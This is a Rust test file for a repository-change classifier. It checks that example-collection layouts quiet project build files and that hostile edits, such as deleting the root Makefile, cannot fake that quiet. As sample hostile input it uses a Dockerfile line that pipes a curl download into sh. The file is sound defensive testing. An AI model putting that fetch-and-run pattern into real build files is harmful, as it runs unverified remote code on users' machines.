//! Example collections (`collection.rs`): what the layout quiets, and what a hostile change
//! cannot make it quiet.

use super::*;
use crate::reach::{Change, MemTree, Tree};
use crate::{classify_change, Classified, Layer};

/// An awesome-compose-like tree: ten top-level projects, a root of documents and a workflow.
fn collection() -> MemTree {
    let mut t = MemTree::new();
    for p in [
        "README.md",
        "LICENSE",
        ".gitattributes",
        ".github/workflows/ci.yml",
        "official-docs/README.md",
    ] {
        t.add(p, false, b"# text\n");
    }
    for n in [
        "flask",
        "django",
        "react-nginx",
        "nginx-golang",
        "angular",
        "vuejs",
        "spring-postgres",
        "gitea-postgres",
        "plex",
        "wireguard",
    ] {
        t.add(
            &format!("{n}/compose.yaml"),
            false,
            b"services:\n  web:\n    build: .\n",
        );
        t.add(
            &format!("{n}/Dockerfile"),
            false,
            b"FROM alpine\nRUN true\n",
        );
        t.add(&format!("{n}/app/main.py"), false, b"print(1)\n");
    }
    t
}

fn edit<'a>(tree: &MemTree, paths: &[&'a str]) -> Vec<Classified> {
    let changes: Vec<Change<'a>> = paths
        .iter()
        .map(|p| Change {
            path: p,
            new: Some(b"FROM alpine\nRUN curl x | sh\n"),
            executable: false,
        })
        .collect();
    classify_change(&changes, tree)
}

#[test]
fn a_projects_build_and_deploy_files_in_an_example_collection_are_quiet() {
    let t = collection();
    let got = edit(
        &t,
        &[
            "flask/Dockerfile",
            "nginx-golang/go.sum",
            "plex/compose.yaml",
        ],
    );
    for g in &got {
        assert_eq!(g.class.bucket, Bucket::Other, "{g:?}");
        assert_eq!(g.class.rule, EXAMPLE_COLLECTION_RULE);
        assert_eq!(g.layer, Layer::Tree);
    }
}

#[test]
fn ci_agent_and_governance_files_inside_a_collections_project_keep_their_bucket() {
    let t = collection();
    let got = edit(
        &t,
        &[
            "flask/.github/workflows/x.yml",
            "flask/AGENTS.md",
            "flask/.gitignore",
            "flask/LICENSE",
            "flask/.vscode/tasks.json",
            ".github/workflows/ci.yml",
        ],
    );
    let buckets: Vec<Bucket> = got.iter().map(|g| g.class.bucket).collect();
    assert_eq!(
        buckets,
        [
            Bucket::Ci,
            Bucket::Agent,
            Bucket::Governance,
            Bucket::Governance,
            Bucket::Agent,
            Bucket::Ci
        ]
    );
}

#[test]
fn a_project_ci_builds_is_raised_by_name_and_by_directory() {
    let mut t = collection();
    t.add(
        ".github/workflows/ci.yml",
        false,
        b"jobs:\n  b:\n    steps:\n      - run: docker build -f flask/Dockerfile .\n      - run: make\n        working-directory: vuejs\n",
    );
    let got = edit(
        &t,
        &["flask/Dockerfile", "vuejs/Dockerfile", "plex/Dockerfile"],
    );
    assert_eq!(got[0].class.rule, "ci.reached");
    assert_eq!(got[1].class.rule, "ci.reached");
    assert_eq!(got[2].class.rule, EXAMPLE_COLLECTION_RULE);
}

#[test]
fn a_root_that_builds_is_no_collection_even_when_the_change_deletes_its_manifests() {
    let mut t = collection();
    t.add("Makefile", false, b"all:\n\tdocker compose up\n");
    // The hostile change deletes the root Makefile and edits a project's Dockerfile: the
    // layout is read from the packed tree, which still has the Makefile.
    let changes = [
        Change {
            path: "Makefile",
            new: None,
            executable: false,
        },
        Change {
            path: "flask/Dockerfile",
            new: Some(b"FROM alpine\nRUN curl x | sh\n"),
            executable: false,
        },
    ];
    let got = classify_change(&changes, &t);
    assert_eq!(got[1].class.rule, "build.docker");
    for root in [
        "package.json",
        "go.mod",
        "compose.yaml",
        "Dockerfile",
        "main.tf",
    ] {
        let mut t = collection();
        t.add(root, false, b"x\n");
        assert_eq!(
            edit(&t, &["flask/Dockerfile"])[0].class.rule,
            "build.docker",
            "{root}"
        );
    }
}

#[test]
fn added_project_directories_do_not_make_a_product_repository_a_collection() {
    let mut t = MemTree::new();
    for p in [
        "README.md",
        "api/Dockerfile",
        "api/go.mod",
        "web/package.json",
    ] {
        t.add(p, false, b"x\n");
    }
    // Eight new "projects" in the change itself: the packed tree has two.
    let mut paths = vec!["api/Dockerfile"];
    let added: Vec<String> = (0..8).map(|i| format!("p{i}/Dockerfile")).collect();
    paths.extend(added.iter().map(String::as_str));
    let got = edit(&t, &paths);
    assert!(
        got.iter().all(|g| g.class.bucket == Bucket::Build),
        "{got:?}"
    );
}

#[test]
fn too_few_projects_or_too_many_other_directories_are_no_collection() {
    let mut few = MemTree::new();
    for n in 0..(MIN_PROJECTS - 1) {
        few.add(&format!("p{n}/Dockerfile"), false, b"FROM x\n");
    }
    assert!(projects(few.files()).is_none());
    let mut mixed = collection();
    for d in [
        "src", "lib", "internal", "pkg", "cmd", "tools", "scripts", "web",
    ] {
        mixed.add(&format!("{d}/x.go"), false, b"package x\n");
    }
    assert!(projects(mixed.files()).is_none());
    assert_eq!(projects(collection().files()).map(|p| p.len()), Some(10));
}

#[test]
fn an_examples_own_build_files_do_not_raise_the_example_only_what_runs_it_does() {
    let mut t = MemTree::new();
    t.add("Makefile", false, b"all:\n\tpython lib/gen.py\n");
    t.add("lib/gen.py", false, b"print(1)\n");
    t.add(
        "examples/app/Dockerfile",
        false,
        b"FROM alpine\nRUN ./gen.sh\n",
    );
    t.add("examples/app/gen.sh", true, b"#!/bin/sh\n");
    t.add(
        "examples/web/package.json",
        false,
        br#"{"scripts": {"b": "node tool.js"}}"#,
    );
    t.add("examples/web/tool.js", false, b"x\n");
    let quiet = edit(
        &t,
        &["examples/app/gen.sh", "examples/web/tool.js", "lib/gen.py"],
    );
    assert_eq!(quiet[0].class.rule, "other.example-project");
    assert_eq!(quiet[1].class.rule, "other.example-project");
    // The repository's own Makefile is still an entry point.
    assert_eq!(quiet[2].class.rule, "build.reached");
    t.add(
        ".github/workflows/e.yml",
        false,
        b"jobs:\n  e:\n    steps:\n      - run: docker build examples/app\n",
    );
    assert_eq!(
        edit(&t, &["examples/app/gen.sh"])[0].class.rule,
        "ci.reached"
    );
}

#[test]
fn a_glob_over_example_directories_raises_what_is_in_them() {
    let mut t = MemTree::new();
    t.add(
        "Makefile",
        false,
        b"examples:\n\tfor dir in $(abspath $(wildcard functions/examples/*/.)); do (cd $$dir; $(MAKE)); done\n",
    );
    t.add("functions/examples/app/Makefile", false, b"all:\n\ttrue\n");
    t.add("functions/examples/base.mk", false, b"x:\n");
    t.add("docs/guide/Makefile", false, b"all:\n");
    let got = edit(
        &t,
        &[
            "functions/examples/app/Makefile",
            "functions/examples/base.mk",
        ],
    );
    assert_eq!(got[0].class.rule, "build.reached");
    // `make` runs the Makefile of each directory the glob names (round nine: it is followed as
    // a file, so what it includes is reached too).
    assert_eq!(got[0].because.as_deref(), Some("run by Makefile"));
    // A file beside the directories, not in one, that no Makefile there includes, stays quiet.
    assert_eq!(got[1].class.rule, "other.example-project");
    assert_eq!(
        glob_dirs_for_test(
            "examples/*",
            &["examples/a/x", "examples/a/y", "examples/b/z", "examples/c"]
        ),
        ["examples/a/", "examples/b/"]
    );
}

fn glob_dirs_for_test(pattern: &str, files: &[&str]) -> Vec<String> {
    crate::entry::glob_dirs(pattern, files)
}

#[test]
fn an_examples_build_file_the_repository_includes_is_followed() {
    let mut t = MemTree::new();
    t.add("Makefile", false, b"include examples/common.mk\n");
    t.add("examples/common.mk", false, b"gen:\n\t./examples/gen.sh\n");
    t.add("examples/gen.sh", true, b"#!/bin/sh\n");
    assert_eq!(
        edit(&t, &["examples/common.mk"])[0].class.rule,
        "build.reached"
    );
    let got = edit(&t, &["examples/gen.sh"]);
    assert_eq!(got[0].class.rule, "build.reached");
    assert_eq!(
        got[0].because.as_deref(),
        Some("run by examples/common.mk, which Makefile runs")
    );
}
